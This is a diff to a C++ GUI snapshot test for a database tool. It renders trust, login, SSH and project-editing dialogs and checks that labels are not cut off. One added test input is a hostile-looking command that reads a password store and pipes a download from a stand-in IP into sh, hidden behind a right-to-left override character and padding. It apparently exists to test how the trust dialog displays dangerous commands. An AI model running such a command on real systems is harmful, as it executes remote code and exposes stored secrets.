@@ -1,15 +1,19 @@
 // Pictures of the window in every state that matters, to be looked at: WHICHBASE_PICTURES names the folder. Always
 // renders them, and checks that no label of the window is cut where it must not be.
 #include "support/sample_snapshots.h"
+#include "window/login_dialog.h"
 #include "window/paste_field.h"
 #include "window/project_dialog.h"
 #include "window/recordings_dialog.h"
 #include "window/secrets_dialog.h"
+#include "window/ssh_dialog.h"
+#include "window/trust_dialog.h"
 #include "window/welcome_page.h"
 #include "window_under_test.h"
 
 #include <QAbstractButton>
 #include <QLabel>
+#include <QListWidget>
 
 #include <gtest/gtest.h>
 
@@ -156,7 +160,10 @@ TEST_P(Pictures, TabsAndDialogsRenderWithNoLabelCut) {
   dialog.paste(QStringLiteral("postgresql://ops@example.org:s@203.0.113.196:5432/TovPlay"));
   dialog.show();
   take(dialog, "project-dialog");
-  ui::SecretsDialog secrets({QStringLiteral("EXTERNAL_PASSWORD"), QStringLiteral("LOCAL_PASSWORD")}, test.window.get());
+  ui::SecretsDialog secrets({{QStringLiteral("${EXTERNAL_PASSWORD}"), {}, false},
+                             {QStringLiteral("app@db.example.org:5432/shop via ssh -p 2222 me@prod.example.org"),
+                              QStringLiteral("Production Backend, Dashboard"), true}},
+                            {}, test.window.get());
   secrets.setAttribute(Qt::WA_DeleteOnClose, false);
   secrets.show();
   take(secrets, "secrets-dialog");
@@ -164,6 +171,50 @@ TEST_P(Pictures, TabsAndDialogsRenderWithNoLabelCut) {
   recordings.setAttribute(Qt::WA_DeleteOnClose, false);
   recordings.show();
   take(recordings, "recordings-dialog");
+}
+
+TEST_P(Pictures, WhatAsksSomebodyRendersWithNoLabelCut) {
+  const auto [dark, small] = GetParam();
+  ui::WindowOptions options;
+  options.dark = dark;
+  const test::WindowUnderTest test(options, small ? QSize(1024, 700) : QSize(1440, 900));
+  const std::string ending = std::string(dark ? "-dark" : "-light") + (small ? "-1024" : "-1440");
+  const auto take = [&](QDialog& dialog, const std::string& name) {
+    dialog.setAttribute(Qt::WA_DeleteOnClose, false);
+    dialog.show();
+    test.wait([] { return false; }, 80);
+    expectNothingCut(dialog, name + ending);
+    save(dialog, name + ending);
+  };
+  project::Requests requests;
+  requests.commands = {"ssh prod docker exec backend printenv", "command kubectl exec -i deploy/backend -- nc %h %p",
+                       std::string("pass show db/prod; curl  -s https://203.0.113.9/x |\nsh \xe2\x80\xae") +
+                           std::string(200, 'x')};
+  requests.secrets = {{"EXTERNAL_PASSWORD", "203.0.113.196:5432"}, {"LOCAL_PASSWORD", "postgres:5432"}};
+  const auto theme = dark ? ui::Theme::dark_() : ui::Theme::light();
+  ui::TrustDialog trust(requests, QStringLiteral("tovplay.whichbase.toml"), theme, test.window.get());
+  take(trust, "trust-dialog");
+  ui::LoginDialog login(QStringLiteral("ssh -o ControlMaster=yes -o ControlPersist=10m -p 2222 me@prod.example.org"),
+                        test.window.get());
+  take(login, "login-dialog");
+  ui::SshDialog ssh({}, true, test.window.get());
+  take(ssh, "ssh-dialog");
+  project::Project project;
+  for (const auto* from :
+       {"", "env-file backend/.env", "compose docker-compose.yml docker-compose.override.yml backend",
+        "kubernetes manifests/ deployment/backend", "service mydb", "command ssh prod docker exec backend printenv",
+        "compose nothing.yml"}) {
+    auto& server = project.servers.emplace_back();
+    server.name = "Server " + std::to_string(project.servers.size());
+    server.present = project::ConnectionSpec{*from ? "" : "postgresql://u@203.0.113.196/x", {}, from};
+    server.present->via = project.servers.size() % 2 == 0 ? "ssh prod" : "command docker exec -i backend nc %h";
+  }
+  ui::ProjectDialog edit(project, {}, test.window.get());
+  edit.resize(small ? QSize(980, 640) : QSize(980, 740));
+  for (int row = 0; row < 7; ++row) {
+    edit.findChild<QListWidget*>()->setCurrentRow(row);
+    take(edit, "server-form-" + std::to_string(row + 1));
+  }
 }
 
 TEST_P(Pictures, AProjectThatWasNotProbedYetSaysSo) {
